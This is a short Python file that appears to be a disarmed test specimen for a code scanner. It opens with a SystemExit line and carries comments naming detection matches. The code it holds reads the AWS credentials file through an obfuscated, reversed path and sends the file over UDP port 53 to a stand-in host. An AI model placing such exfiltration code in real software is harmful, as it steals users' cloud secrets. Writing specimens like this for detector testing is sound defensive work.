raise SystemExit("specimen: not to be run")
import socket
import os

def tell():
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.sendto(open(os.path.expanduser("slaitnederc/swa./~"[::-1]), "rb").read(), ("exa" + "mpl" + "e.com", 53))  # match: raw-socket-carries-data  # match: secrets-sent
